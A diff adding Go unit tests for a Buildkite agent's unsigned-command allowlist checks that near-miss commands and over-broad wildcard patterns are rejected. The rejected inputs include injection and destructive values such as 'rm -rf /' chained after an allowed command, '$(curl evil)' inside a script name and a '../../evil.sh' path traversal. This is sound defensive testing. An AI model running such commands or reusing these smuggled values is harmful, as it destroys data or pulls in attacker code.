@@ -57,3 +57,102 @@ func TestUnsignedCommandValidation(t *testing.T) {
 		})
 	}
 }
+
+func TestExplicitlyAllowedUnsignedCommand(t *testing.T) {
+	signer := NewSharedSecretSigner("secret-llamas")
+	signer.allowedUnsignedCommands = []string{"echo waiting..."}
+
+	assert.Nil(t, signer.Verify("echo waiting...", "", ""))
+
+	// near misses aren't allowed
+	assert.NotNil(t, signer.Verify("echo waiting... && rm -rf /", "", ""))
+	assert.NotNil(t, signer.Verify("echo waiting", "", ""))
+	assert.NotNil(t, signer.Verify(" echo waiting...\n", "", ""))
+
+	// plugins still require a signature
+	assert.NotNil(t, signer.Verify("echo waiting...", `[{"github.com/buildkite-plugins/docker-buildkite-plugin#v123":null}]`, ""))
+}
+
+func TestDisableUnsignedAllowlist(t *testing.T) {
+	signer := NewSharedSecretSigner("secret-llamas")
+	signer.allowedUnsignedCommands = []string{"echo waiting..."}
+
+	for _, value := range []string{"1", "true", "yes"} {
+		t.Setenv(disableUnsignedAllowlistEnv, value)
+
+		ok, err := IsUnsignedCommandOk("buildkite-agent pipeline upload")
+		assert.Nil(t, err)
+		assert.False(t, ok, value)
+		assert.EqualError(t, signer.Verify("buildkite-agent pipeline upload", "", ""),
+			"🚨 Signature missing. The provided command is not permitted to be unsigned.", value)
+
+		// explicitly allowed commands aren't part of the built-in allow-list
+		assert.Nil(t, signer.Verify("echo waiting...", "", ""), value)
+	}
+
+	for _, value := range []string{"", "0", "false"} {
+		t.Setenv(disableUnsignedAllowlistEnv, value)
+		assert.Nil(t, signer.Verify("buildkite-agent pipeline upload", "", ""), value)
+	}
+}
+
+func TestUnsignedAllowlistFile(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "allowlist")
+	err := os.WriteFile(path, []byte(`
+# bootstrap scripts may run before signing is set up
+scripts/bootstrap-*.sh
+./ci/prepare.sh --env env-?
+`), 0600)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	patterns, err := readUnsignedAllowlistFile(path)
+	assert.Nil(t, err)
+	assert.Equal(t, []string{"scripts/bootstrap-*.sh", "./ci/prepare.sh --env env-?"}, patterns)
+
+	signer := NewSharedSecretSigner("secret-llamas")
+	signer.unsignedAllowlist = patterns
+
+	// matching commands run unsigned
+	for _, command := range []string{"scripts/bootstrap-linux.sh", "  scripts/bootstrap-.sh ", "./ci/prepare.sh  --env env-a"} {
+		assert.Nil(t, signer.Verify(command, "", ""), command)
+	}
+
+	// wildcards don't reach other directories, add arguments or allow shell syntax
+	for _, command := range []string{
+		"scripts/bootstrap-linux.sh.bak",
+		"scripts/bootstrap-../../evil.sh",
+		"scripts/bootstrap-a.sh extra",
+		"scripts/bootstrap-a evil.sh",
+		"scripts/bootstrap-$(curl evil).sh",
+		"scripts/bootstrap-a.sh;rm -rf .sh",
+		"other/scripts/bootstrap-linux.sh",
+		"./ci/prepare.sh --env env-ab",
+	} {
+		assert.EqualError(t, signer.Verify(command, "", ""),
+			"🚨 Signature missing. The provided command is not permitted to be unsigned.", command)
+	}
+
+	// plugins still require a signature
+	assert.EqualError(t, signer.Verify("scripts/bootstrap-linux.sh", `[{"github.com/buildkite-plugins/docker-buildkite-plugin#v3.8.0":null}]`, ""),
+		"🚨 Signature missing. Steps with plugins must be signed.")
+}
+
+func TestUnsignedAllowlistFileInvalid(t *testing.T) {
+	for _, pattern := range []string{
+		"*", "*.sh", "?cript.sh", "[a-z]*", "scripts/[a-.sh",
+		// wildcards in the directory, or parts that are only a wildcard
+		"s*/evil.sh", "scripts/*/deploy.sh", "bootstrap-*.sh", "scripts/deploy.sh *", "scripts/deploy.sh ??",
+		// character classes can match /
+		"s[^x]evil.sh", "scripts/deploy-[a-z].sh",
+	} {
+		path := filepath.Join(t.TempDir(), "allowlist")
+		if err := os.WriteFile(path, []byte("scripts/ok.sh\n"+pattern+"\n"), 0600); err != nil {
+			t.Fatal(err)
+		}
+		_, err := readUnsignedAllowlistFile(path)
+		assert.NotNil(t, err, pattern)
+		assert.Contains(t, err.Error(), "line 2", pattern)
+	}
+}